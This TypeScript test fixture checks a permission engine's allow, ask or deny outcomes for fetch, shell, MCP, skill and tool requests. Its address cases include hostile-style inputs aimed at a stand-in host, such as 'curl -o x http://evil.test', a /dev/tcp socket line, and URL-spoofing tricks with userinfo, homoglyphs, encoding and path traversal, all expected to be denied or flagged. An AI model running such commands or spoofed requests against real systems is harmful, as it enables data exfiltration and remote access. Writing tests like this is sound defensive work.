import type { RequestedOperation } from "../../../src/events/live-event.js";
import type { Topic } from "./cases.js";

const fetch = (url?: string): RequestedOperation =>
  url === undefined ? { type: "fetch" } : { type: "fetch", url };
const mcp = (tool: string, server?: string): RequestedOperation =>
  server === undefined ? { type: "mcp", tool } : { type: "mcp", tool, server };

export const otherTopics: readonly Topic[] = [
  {
    about: "addresses",
    rules: {
      allow: [
        "fetch: example.com",
        "fetch: *.docs.test",
        "fetch: localhost:3000",
        "fetch: https://api.test/v1/*",
        "command: curl *",
      ],
      deny: ["fetch: evil.test", "fetch: https://example.com/private/*"],
    },
    cases: [
      [fetch("https://example.com"), "allow"],
      [fetch("http://EXAMPLE.com/a?b"), "allow"],
      [fetch("https://example.com./a"), "allow"],
      [fetch("example.com/a"), "allow"],
      [fetch("https://sub.example.com"), "ask"],
      [fetch("https://example.com.evil.org"), "ask"],
      [fetch("https://example.com:8443"), "ask"],
      [fetch("https://example.com@other.test/"), "ask"],
      [fetch("https://user@example.com/"), "ask"],
      [fetch("ftp://example.com/"), "ask"],
      [fetch("https://other.test/?example.com"), "ask"],
      [fetch("https://example.com/private/a"), "deny"],
      [fetch("https://example.com/x/../private/a"), "deny"],
      [fetch("https://example.com/%70rivate/a"), "deny"],
      [fetch("https://a.docs.test/"), "allow"],
      [fetch("https://a.b.docs.test/"), "allow"],
      [fetch("https://xdocs.test/"), "ask"],
      [fetch("http://localhost:3000/x"), "allow"],
      [fetch("http://localhost/x"), "ask"],
      [fetch("https://api.test/v1/a"), "allow"],
      [fetch("https://api.test/v1/../v2"), "ask"],
      [fetch("http://api.test/v1/a"), "ask"],
      [fetch("https://evil.test"), "deny"],
      [fetch("http://a.evil.test:99/x"), "deny"],
      [fetch("https://EVIL.test./"), "deny"],
      [fetch("https://ｅvil.test/"), "deny"],
      [fetch("not a url with evil.test"), "deny"],
      [fetch("http://"), "ask"],
      [fetch(), "ask"],
      ["curl https://example.com/a", "allow"],
      ["curl https://evil.test/a", "deny"],
      ["curl evil.test", "deny"],
      ["curl -o x http://evil.test", "deny"],
      ["exec 3<>/dev/tcp/evil.test/80", "deny"],
    ],
  },
  {
    about: "MCP servers, skills and tools",
    rules: {
      allow: ["mcp: github/get_*", "mcp: files: *", "mcp: docs", "skill: review", "tool: TodoWrite"],
      deny: ["mcp: github/delete_*", "skill: deploy*", "tool: Danger*"],
      ask: ["mcp: files/write"],
    },
    cases: [
      [mcp("get_issue", "github"), "allow"],
      [mcp("create_issue", "github"), "ask"],
      [mcp("delete_repo", "github"), "deny"],
      [mcp("DELETE_repo", "GitHub"), "deny"],
      [mcp("mcp__github__delete_repo"), "deny"],
      [mcp("get_issue"), "ask"],
      [mcp("get_issue", "GitHub"), "ask"],
      [mcp("get_issue", "github2"), "ask"],
      [mcp("read", "files"), "allow"],
      [mcp("write", "files"), "ask"],
      [mcp("anything", "docs"), "allow"],
      [{ type: "skill", path: "/s/review/SKILL.md", skillName: "review" }, "allow"],
      [{ type: "skill", path: "/s/review/SKILL.md" }, "ask"],
      [{ type: "skill", path: "/s/deploy-it/SKILL.md" }, "deny"],
      [{ type: "skill", path: "/s/x/SKILL.md", skillName: "Deploy" }, "deny"],
    ],
  },
  {
    about: "a command of several operations that are allowed differently",
    rules: { allow: ["read", "list: src/**", "search"], ask: ["read"] },
    cases: [
      ["ls src", "allow"],
      ["ls src; cat a", "ask"],
      ["ls src | head -3", "allow"],
      ["cat a b", "ask"],
      ["grep x a", "allow"],
    ],
  },
  {
    about: "rules of one kind for all, and the order of the lists",
    rules: {
      allow: ["command", "read", "write: a", "fetch: *", "command: make"],
      ask: ["read", "command: make clean", "write: a"],
      deny: ["fetch"],
    },
    cases: [
      ["make", "allow"],
      ["make clean", "ask"],
      [{ type: "read", path: "a" }, "ask"],
      [{ type: "write", path: "a" }, "ask"],
      [fetch("https://a.test"), "deny"],
      ["ls && cat a", "allow"],
      ["curl a.test", "deny"],
    ],
  },
];
